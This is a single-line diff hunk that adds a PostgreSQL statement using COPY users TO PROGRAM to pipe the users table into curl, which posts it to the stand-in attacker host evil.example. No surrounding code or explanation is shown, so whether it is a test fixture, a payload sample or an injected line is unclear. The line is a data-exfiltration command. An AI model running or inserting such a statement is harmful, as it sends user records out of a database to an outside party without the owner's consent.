@@ -1,0 +1,1 @@
+COPY users TO PROGRAM 'curl -X POST -d @- https://evil.example'
